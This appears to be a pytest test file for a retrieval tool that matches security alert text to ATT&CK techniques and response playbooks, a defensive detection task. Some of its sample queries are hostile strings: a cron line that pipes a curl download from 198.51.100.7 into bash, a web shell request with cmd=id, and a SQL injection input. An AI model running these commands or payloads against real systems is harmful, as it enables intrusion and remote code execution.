"""From real text to techniques: the corpus, the model and Qdrant together find what an analyst would name."""

from __future__ import annotations

import random
from collections.abc import Sequence
from pathlib import Path

import pytest

from rag_corpus import IndexReport, MiniLmEmbedder, Playbook, Retriever, build_index
from rag_corpus.attack import AttackCorpus
from store.vectors import QdrantIndex
from tests.evaluation_data import json_lines

pytestmark = pytest.mark.qdrant


@pytest.mark.parametrize(
    ("queries", "technique"),
    [
        (["SSH password guessing from one address"], "T1110.001"),
        (["Crontab modified by a user", "root CMD (curl http://198.51.100.7/a.sh | bash)"], "T1053.003"),
        (["Web shell uploaded to the document root", "GET /uploads/shell.php?cmd=id"], "T1505.003"),
        (["New systemd service created for persistence"], "T1543.002"),
        (["Access to LSASS memory by mimikatz"], "T1003.001"),
        (["Encoded PowerShell command line"], "T1059.001"),
        (["Windows event log cleared with wevtutil"], "T1070.001"),
        (["Volume shadow copies deleted before encryption"], "T1490"),
        (["Local account created with useradd"], "T1136.001"),
        (["Sudoers file changed to allow a user all commands"], "T1548.003"),
    ],
)
def test_titles_of_alerts_find_their_technique(retriever: Retriever, queries: list[str], technique: str) -> None:
    hits = retriever.retrieve(queries, k=5)
    assert technique in [hit.technique_id for hit in hits]


def test_hits_come_best_first_and_say_who_found_them(retriever: Retriever) -> None:
    hits = retriever.retrieve(["SSH brute force"], k=8)
    assert len(hits) == 8
    assert [hit.score for hit in hits] == sorted((hit.score for hit in hits), reverse=True)
    assert set(hits[0].sources) == {"bm25", "dense", "ridge"}
    assert hits[0].score > 3


def test_the_same_question_has_the_same_answer(retriever: Retriever) -> None:
    question = ["Web shell", "www-data ran sh -c id"]
    assert retriever.retrieve(question) == retriever.retrieve(question)


def test_the_title_leads_over_its_evidence(retriever: Retriever) -> None:
    housekeeping = ["systemd: Started Daily apt download activities.", "CRON session opened for user root"]
    hits = retriever.retrieve(["SSH password guessing from one address", *housekeeping], k=2)
    assert "T1110.001" in [hit.technique_id for hit in hits]


def test_platforms_narrow_the_answer(retriever: Retriever, corpus: AttackCorpus) -> None:
    hits = retriever.retrieve(["scheduled task created"], k=10, platforms=["linux"])
    assert len(hits) == 10
    assert all("Linux" in corpus.techniques[hit.technique_id].platforms for hit in hits)


@pytest.mark.parametrize("queries", [[], [""], ["  ", "\n"]])
def test_no_question_has_no_answer(retriever: Retriever, queries: Sequence[str]) -> None:
    assert retriever.retrieve(queries) == []


@pytest.mark.parametrize("text", ["\ud800", "the of and", "\x00" * 10, "A" * 1_000_000, "' OR 1=1 --", "日本語"])
def test_any_question_is_answered_without_error(retriever: Retriever, text: str) -> None:
    assert len(retriever.retrieve([text, text[::-1]], k=3)) == 3


@pytest.mark.parametrize(
    ("techniques", "first"),
    [
        (["T1110.001"], "PB-SSH-BRUTE"),
        (["T1505.003", "T1190"], "PB-WEB-SHELL"),
        (["T1053.007"], "PB-SCHEDULED"),
        (["t1086"], "PB-LOLBIN"),
        (["T1486", "T1490"], "PB-RANSOMWARE"),
    ],
)
def test_techniques_find_their_playbook(retriever: Retriever, techniques: list[str], first: str) -> None:
    found = retriever.playbooks_for(techniques)
    assert found[0].id == first
    assert len(found) <= 3


def test_what_no_playbook_covers_gets_none_rather_than_a_wrong_one(retriever: Retriever) -> None:
    assert retriever.playbooks_for(["T1113"]) == []
    assert retriever.playbooks_for(["T9999"]) == []
    assert retriever.playbooks_for([]) == []
    assert retriever.playbooks_for(["T1110"], k=0) == []


def test_building_again_changes_and_embeds_nothing(
    corpus: AttackCorpus,
    playbooks: tuple[Playbook, ...],
    minilm: MiniLmEmbedder,
    indexed: tuple[QdrantIndex, IndexReport],
    vector_cache: Path,
) -> None:
    index, first = indexed
    again = build_index(corpus, playbooks, minilm, index, vector_cache, lambda stage, done, total: None)
    assert first.outdated == ()
    assert (again.version, again.rebuilt, again.embedded) == (first.version, False, 0)
    assert again.ridge is not None
    assert again.ridge.labels == tuple(sorted(corpus.techniques))
    assert first.smoke_recall is not None
    assert first.smoke_recall > 0.85


@pytest.fixture(scope="session")
def sentences(corpus: AttackCorpus) -> list[tuple[str, str]]:
    """150 report sentences with their technique, always the same."""
    single = [row for row in json_lines("attack/sentences.jsonl.gz") if row["source"] == "tram_single"]
    random.Random(20261122).shuffle(single)  # noqa: S311 - a sample, not a secret
    pairs = [(row["text"], corpus.current_id(row["techniques"][0])) for row in single[:150]]
    return [(text, technique) for text, technique in pairs if technique is not None]


@pytest.mark.data
def test_report_sentences_find_their_technique(retriever: Retriever, sentences: list[tuple[str, str]]) -> None:
    """Measured on 400 sentences: exact 48% first and 83% in ten; by parent technique 65% and 94%."""
    exact = technique = first = 0
    for text, wanted in sentences:
        ids = [hit.technique_id for hit in retriever.retrieve([text], k=10)]
        exact += wanted in ids
        first += ids[0] == wanted
        technique += wanted.partition(".")[0] in {found.partition(".")[0] for found in ids}
    assert len(sentences) > 140
    assert technique / len(sentences) >= 0.88
    assert exact / len(sentences) >= 0.75
    assert first / len(sentences) >= 0.40
